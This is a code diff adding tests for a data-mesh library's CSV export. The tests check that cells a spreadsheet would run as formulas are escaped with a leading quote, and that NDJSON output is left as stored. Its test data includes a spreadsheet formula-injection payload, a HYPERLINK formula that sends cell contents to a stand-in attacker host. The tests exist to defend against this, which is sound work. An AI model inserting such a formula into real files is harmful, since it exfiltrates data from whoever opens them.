@@ -9,6 +9,8 @@ import {
 import { failureOf, type GovernedMesh, openGovernedMesh } from '../../test/support/governed-mesh.ts';
 import { MeshError } from '../core/errors.ts';
 import { maskValue } from '../governance/masking.ts';
+import type { DataProduct } from './data-product.ts';
+import { storeMaskingKey } from '../../test/support/masking-key.ts';
 
 const failure = async (promise: Promise<unknown>): Promise<MeshError> => {
   const error = await promise.then(
@@ -127,7 +129,7 @@ describe('DataProduct.exportFile under governance', () => {
     expect(first).toMatchObject({
       customer_id: original.customer_id,
       name: '***',
-      email: maskValue(String(original.email), 'hash'),
+      email: maskValue(String(original.email), 'hash', await storeMaskingKey(gm.store)),
     });
     expect(
       (await failureOf(product.exportFile(gm.dir.file('by-email.csv'), { orderBy: 'email' }))).code,
@@ -139,5 +141,95 @@ describe('DataProduct.exportFile under governance', () => {
       (await gm.dave.product('customer.profiles')).exportFile(gm.dir.file('c.csv')),
     );
     expect(error.code).toBe('unauthorized');
+  });
+});
+
+describe('DataProduct.exportFile and spreadsheet formulas', () => {
+  let em: ExampleMesh;
+  let product: DataProduct;
+  const TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '+1+1',
+    '-5',
+    '@SUM(A1:A9)',
+    '\tTab',
+    '\rCR',
+    'plain',
+  ];
+  beforeEach(async () => {
+    em = await openExampleMesh({ ingest: false });
+    const spec = exampleSpec('sales');
+    spec.id = 'sales.adjustments';
+    const fields = (spec.schema as { fields: Record<string, unknown>[] }).fields;
+    for (const f of fields) delete f.exclusiveMinimum;
+    product = await em.mesh.createProduct(spec);
+    const outcome = await product.ingest(
+      TEXTS.map((text, i) => ({
+        transaction_id: `ADJ${i}`,
+        product_id: 'PROD1',
+        customer_id: 'CUST1',
+        amount: -5 - i,
+        date: '2025-10-01',
+        product_category: text,
+        region: 'Europe',
+      })),
+    );
+    expect(outcome.rejected).toEqual([]);
+  });
+  afterEach(async () => {
+    await em.cleanup();
+  });
+
+  const csvCells = (path: string, column: number): string[] =>
+    readFileSync(path, 'utf8')
+      .split('\n')
+      .slice(1)
+      .filter((l) => l !== '')
+      .map((l) => l.split(',')[column] ?? '');
+
+  it('prefixes a quote to text cells a spreadsheet would run, and leaves numbers (negative ones too) alone', async () => {
+    const path = em.dir.file('adjustments.csv');
+    const result = await product.exportFile(path, {
+      columns: ['transaction_id', 'amount', 'product_category'],
+      orderBy: 'transaction_id',
+    });
+    expect(result.formulasEscaped).toBe(true);
+    const text = readFileSync(path, 'utf8');
+    expect(text).toContain('ADJ0,-5.0,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+    expect(csvCells(path, 1)).toEqual(['-5.0', '-6.0', '-7.0', '-8.0', '-9.0', '-10.0', '-11.0']);
+    expect(text).toContain("ADJ1,-6.0,'+1+1\n");
+    expect(text).toContain("ADJ2,-7.0,'-5\n");
+    expect(text).toContain("ADJ3,-8.0,'@SUM(A1:A9)\n");
+    expect(text).toContain("ADJ4,-9.0,'\tTab\n");
+    expect(text).toContain('ADJ5,-10.0,"\'\rCR"\n');
+    expect(text).toContain('ADJ6,-11.0,plain\n');
+    expect(text).not.toMatch(/,=|,\+|,@/);
+  });
+
+  it('writes the text as stored with csvFormulaEscape false, and never touches NDJSON', async () => {
+    const path = em.dir.file('raw.csv');
+    const result = await product.exportFile(path, {
+      columns: ['transaction_id', 'product_category'],
+      orderBy: 'transaction_id',
+      csvFormulaEscape: false,
+    });
+    expect(result.formulasEscaped).toBe(false);
+    const text = readFileSync(path, 'utf8');
+    expect(text).toContain('ADJ1,+1+1\n');
+    expect(text).toContain('ADJ3,@SUM(A1:A9)\n');
+    const [entry] = await product.accessLog({ operation: 'export' });
+    expect(entry?.parameters).toMatchObject({ format: 'csv', csvFormulaEscape: false });
+    const ndjson = await product.exportFile(em.dir.file('all.ndjson'), { orderBy: 'transaction_id' });
+    expect(ndjson.formulasEscaped).toBe(false);
+    const categories = readFileSync(ndjson.path, 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => (JSON.parse(l) as { product_category: string }).product_category);
+    expect(categories).toEqual(TEXTS);
+    const bad = await failure(product.exportFile(path, { csvFormulaEscape: 'no' as unknown as boolean }));
+    expect(bad.code).toBe('invalid_input');
+    expect(bad.message).toContain(
+      'csvFormulaEscape of the export of sales.adjustments must be true or false',
+    );
   });
 });
